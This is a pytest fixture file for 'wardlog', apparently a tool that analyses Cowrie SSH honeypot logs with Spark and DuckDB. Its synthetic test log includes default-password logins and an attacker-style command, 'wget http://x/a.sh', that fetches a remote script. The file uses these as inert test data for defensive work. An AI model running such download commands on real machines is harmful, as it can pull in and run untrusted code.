import json
import os
import sys

import pytest

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from wardlog import schema as S  # noqa: E402
from wardlog.session import local_session  # noqa: E402


@pytest.fixture(scope="session")
def spark():
    return local_session(8, shuffle_partitions=4)


@pytest.fixture
def db():
    import duckdb

    return duckdb.connect()


def event(session, eventid, second, src_ip="", **more):
    return json.dumps({
        "session": session, "eventid": eventid, "src_ip": src_ip,
        "timestamp": f"2024-01-01T00:00:{second:02d}.000000Z", **more,
    })


# The golden log of FIXTURES section 4.
MICRO_LOG = [
    event("s1", "other.connect", 1, "10.0.0.1", version="v1", hassh="h1"),
    event("s1", S.EVENT_LOGIN_FAILED, 2, "10.0.0.1", username="root", password="1234"),
    event("s1", S.EVENT_LOGIN_SUCCESS, 3, "10.0.0.1", username="root", password="admin"),
    event("s1", S.EVENT_COMMAND, 4, "10.0.0.1", input="su"),
    event("s1", S.EVENT_COMMAND, 5, "10.0.0.1", input="wget http://x/a.sh"),
    event("s1", S.EVENT_CLOSED, 6, "10.0.0.1", duration="12.5"),
    event("s2", "other.connect", 7, "10.0.0.2"),
    event("s2", S.EVENT_LOGIN_FAILED, 8, "10.0.0.2", username="admin", password="admin"),
    event("s2", S.EVENT_CLOSED, 9, "10.0.0.2", duration=1.0),
    "not json",
    json.dumps({"eventid": "other.connect", "timestamp": "2024-01-01T00:00:11.000000Z"}),
    event("s3", "other.connect", 12, "10.0.0.1"),
    event("s3", S.EVENT_LOGIN_SUCCESS, 13, "10.0.0.1", username="root", password="root"),
    "[1,2]",
]


@pytest.fixture
def micro_dir(tmp_path):
    folder = tmp_path / "logs"
    folder.mkdir()
    (folder / "cowrie.json").write_text("\n".join(MICRO_LOG) + "\n")
    return str(folder)
